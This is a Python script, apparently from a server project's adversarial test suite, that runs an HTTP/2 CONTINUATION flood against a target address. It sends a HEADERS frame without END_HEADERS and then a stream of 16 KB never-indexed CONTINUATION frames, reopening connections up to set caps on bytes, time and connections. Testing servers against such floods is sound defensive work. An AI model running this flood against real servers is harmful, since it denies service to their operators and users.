"""HTTP/2 CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION frames forever.

Each frame carries one valid, never-indexed 16 KB header field, so the server
must decode (or refuse) the block rather than fail on garbage. Bounded by
``--gigabytes`` and ``--seconds``; on a closed connection the attacker opens
another, up to ``--connections``.
"""

from __future__ import annotations

import time

from hpack import NeverIndexedHeaderTuple

from tests.adversarial.harness import (
    ContinuationFrame,
    HeadersFrame,
    RawConnection,
    parse_args,
    request_headers,
    run_attack,
)

BATCH = 64  # frames per write


def flood(address: str, gigabytes: float, seconds: float, connections: int) -> dict[str, object]:
    budget = int(gigabytes * 1024**3)
    sent = 0
    opened = 0
    closed_by_server = 0
    deadline = time.monotonic() + seconds
    while sent < budget and opened < connections and time.monotonic() < deadline:
        conn = RawConnection(address)
        opened += 1
        conn.start()
        first = conn.headers_block(request_headers(address))
        field = bytes(
            conn.encoder.encode([NeverIndexedHeaderTuple("x-flood", "a" * 16_000)], huffman=False)
        )
        if not conn.send(HeadersFrame(1, data=first)):
            continue
        frame = ContinuationFrame(1, data=field).serialize()
        chunk = frame * BATCH
        while sent < budget and time.monotonic() < deadline:
            if not conn.send(chunk):
                closed_by_server += 1
                break
            sent += len(chunk)
        conn.close()
    return {
        "bytes_sent_mib": sent // 1024**2,
        "connections": opened,
        "closed_by_server": closed_by_server,
        "seconds": seconds,
    }


def main() -> None:
    args = parse_args(
        __doc__ or "",
        [
            ("gigabytes", 8.0, "CONTINUATION bytes to send at most"),
            ("seconds", 10.0, "attack duration at most"),
            ("connections", 1000, "connections to (re)open at most"),
        ],
    )
    run_attack(
        "CONTINUATION flood",
        args.server_arg,
        flood,
        args.gigabytes,
        args.seconds,
        args.connections,
    )


if __name__ == "__main__":
    main()
